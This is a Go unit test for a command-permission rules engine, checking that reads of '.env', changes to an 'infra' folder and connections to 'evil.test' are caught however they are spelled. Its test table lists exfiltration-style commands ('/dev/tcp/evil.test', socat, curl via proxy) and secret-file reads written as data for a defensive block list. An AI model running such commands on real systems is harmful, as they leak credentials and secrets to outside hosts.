package rules

import "testing"

// What may be what a rule is about is at least asked about, however it is written.
func TestNothingIsMissedForItsSpelling(t *testing.T) {
	list, problems := Parse(Source{Name: "x.yaml", Layer: User, Data: []byte(`
version: 1
decide: deny
rules:
  - {id: env, why: w, match: {path: .env, access: read}, examples: {hit: [{read: .env}]}}
  - {id: infra, why: w, match: {path: ./infra/, access: change}, examples: {hit: [{write: infra/a}]}}
  - {id: host, why: w, match: {host: evil.test}, examples: {hit: [curl evil.test]}}
`)})
	if len(problems) > 0 {
		t.Fatalf("the rules have problems, expected none: %v", problems)
	}
	set := NewSet(list, Options{Home: exampleHome})
	for command, want := range map[string]Verdict{
		"cat .en*": Ask, "cat .e?v": Ask, "cat .[e]nv": Ask, "cat *": NoVerdict, "cat .gitignor*": NoVerdict,
		"ls -a | xargs cat": Ask, "find . -name .env -exec cat {} +": Deny,
		`python3 -c 'print(open(".env").read())'`: Ask, `node -e 'fs.readFileSync(".env")'`: Ask,
		"vim .env": Deny, "git show HEAD:.env": Deny, "git checkout -- infra": Deny, "git restore infra": Deny,
		"git checkout infra-2":           NoVerdict,
		"echo x > /dev/tcp/evil.test/80": Deny, "socat - TCP:evil.test:80": Deny,
		"openssl s_client -connect evil.test:443": Deny, "curl -x evil.test:80 ok.test": Deny,
		"curl -x ok.test evil.test": Deny, "HTTPS_PROXY=evil.test curl https://ok.test": Deny,
	} {
		if got := set.Decide(Example{Command: command}.Facts(set.Needs())).Verdict; got != want {
			t.Errorf("%q: %q, want %q", command, got, want)
		}
	}
}
